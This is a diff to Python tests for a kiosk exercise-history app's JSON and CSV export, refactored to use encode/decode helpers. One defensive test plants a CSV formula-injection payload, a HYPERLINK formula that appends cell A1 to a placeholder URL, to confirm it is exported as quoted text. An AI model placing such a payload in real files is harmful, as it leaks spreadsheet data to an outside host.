@@ -18,13 +18,13 @@ from store_samples import real_record
 from kiosk.errors import StorageError
 from kiosk.store.export import CSV_COLUMNS, FORMULA_STARTS, write_csv, write_file
 from kiosk.store.history import History
-from kiosk.store.records import check_record
+from kiosk.store.records import decode, encode
 
 
 def _history(tmp_path: Path) -> History:
     history = History.open(tmp_path)
-    history.add_session(real_record("mon", "2026-11-23T09:00:00", pain_before=3, pain_after=2))
-    history.add_session(real_record("tue", "2026-11-24T09:00:00"))
+    history.add(real_record("mon", "2026-11-23T09:00:00", pain_before=3, pain_after=2))
+    history.add(real_record("tue", "2026-11-24T09:00:00"))
     return history
 
 
@@ -34,7 +34,7 @@ def test_json_export_holds_every_session_in_order(tmp_path: Path) -> None:
         history.export_json(out)
         sessions = history.sessions()
     exported = json.loads(out.getvalue())
-    assert exported == {"schema": 1, "sessions": sessions}
+    assert exported == {"schema": 1, "sessions": [encode(s) for s in sessions]}
     assert [s["id"] for s in exported["sessions"]] == ["mon", "tue"]
 
 
@@ -70,7 +70,7 @@ def test_csv_export_has_one_row_per_set(tmp_path: Path) -> None:
 # --- safety: formulas, and where the file goes (issue #9) -------------------------------------
 def _exported_csv(sessions: list[dict[str, Any]]) -> list[list[str]]:
     out = io.StringIO(newline="")
-    write_csv(sessions, out)
+    write_csv([decode(s) for s in sessions], out)  # what the codec accepts, and only that
     return list(csv.reader(io.StringIO(out.getvalue(), newline="")))
 
 
@@ -84,20 +84,19 @@ def test_no_csv_cell_ever_starts_a_formula(
     id_: str, family: str, name: str, reason: str, change: str, side: str | None
 ) -> None:
     """For any history the codec accepts, a spreadsheet reading the CSV finds no formula."""
-    record = real_record()
+    record = encode(real_record())
     record["id"] = id_
     for ex in record["exercises"]:
         ex.update(family=family, variation=family, name=name, reason=reason, change=change)
         for s in ex["sets"]:
             s["side"] = side
-    check_record(record)  # what the store would save, and load again
     for row in _exported_csv([record]):
         for cell in row:
             assert not cell.startswith(FORMULA_STARTS), row
 
 
 def test_a_formula_keeps_its_text_behind_a_quote() -> None:
-    record = real_record()
+    record = encode(real_record())
     record["exercises"][0]["reason"] = '=HYPERLINK("http://x/?"&A1,"Bridge")'
     rows = _exported_csv([record])
     reason = rows[1][CSV_COLUMNS.index("reason")]
